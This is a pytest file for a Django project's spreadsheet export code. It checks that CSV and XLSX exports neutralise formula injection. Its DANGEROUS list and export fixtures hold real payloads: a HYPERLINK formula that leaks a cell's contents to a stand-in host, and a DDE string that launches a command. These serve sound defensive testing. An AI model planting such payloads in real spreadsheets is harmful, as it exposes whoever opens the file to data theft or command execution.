"""Spreadsheets the project writes cannot attack the person who opens them
(allas/spreadsheets.py), and the admin's exports of every model follow the rule."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin

from activities.models import Activity
from allas import spreadsheets
from allas.import_forms import CSV, XLSX
from partners.imports import BaseResource
from tests import factories

ATTACK = '=HYPERLINK("http://x?x="&B3,"Open")'
DANGEROUS = [ATTACK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx", "'=x", "''-1"]
HARMLESS = ["x", "-34.9", "+1", "'quoted", "'", "", "a=b", None, 5]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_value_a_spreadsheet_would_run_is_written_behind_a_quote(value):
    assert spreadsheets.escape(value) == "'" + value
    assert spreadsheets.unescape(spreadsheets.escape(value)) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_text_numbers_and_empty_values_are_written_as_they_are(value):
    assert spreadsheets.escape(value) == value
    assert spreadsheets.unescape(value) == value


def test_xlsx_cells_lose_the_control_characters_openpyxl_refuses():
    assert spreadsheets.xlsx_safe("a\x03b\x00c\td\ne\rf") == "abc\td\ne\rf"


def test_every_admin_that_exports_uses_the_safe_resources_and_formats():
    exporting = [a for a in admin.site._registry.values() if isinstance(a, ExportMixin)]
    assert exporting
    for model_admin in exporting:
        assert set(model_admin.get_export_formats()) <= {CSV, XLSX}, model_admin
        for resource in model_admin.get_export_resource_classes(None):
            assert issubclass(resource, BaseResource), (model_admin, resource)


def _export(client, url_name, file_format, fields):
    return client.post(
        reverse(url_name),
        {"format": file_format, "resource": "0"} | {f"activityresource_{f}": "on" for f in fields},
    )


@pytest.mark.django_db
def test_the_admin_csv_export_writes_a_formula_title_as_text(coordinator_client, partner_a):
    factories.make_activity(partners=[partner_a], slug="attack", title=ATTACK)
    response = _export(
        coordinator_client, "admin:activities_activity_export", "0", ["slug", "title_es"]
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1] == ["attack", "'" + ATTACK]


@pytest.mark.django_db
def test_the_admin_xlsx_export_holds_no_formula_and_survives_control_characters(
    coordinator_client, partner_a
):
    factories.make_activity(partners=[partner_a], slug="attack", title=ATTACK, notes="a\x03b")
    response = _export(
        coordinator_client,
        "admin:activities_activity_export",
        "1",
        ["slug", "title_es", "notes"],
    )
    assert response.status_code == 200
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in sheet[2]] == ["attack", "'" + ATTACK, "ab"]
    assert sheet["B2"].data_type != "f"


@pytest.mark.django_db
def test_a_dashboard_csv_writes_a_formula_partner_name_as_text(coordinator_client):
    partner = factories.make_partner(name=ATTACK)
    factories.make_activity(partners=[partner], kind=Activity.Kind.TRAINING, hours=2)
    response = coordinator_client.get("/admin/dashboard/", {"csv": "training-per-partner"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][0] == "'" + ATTACK
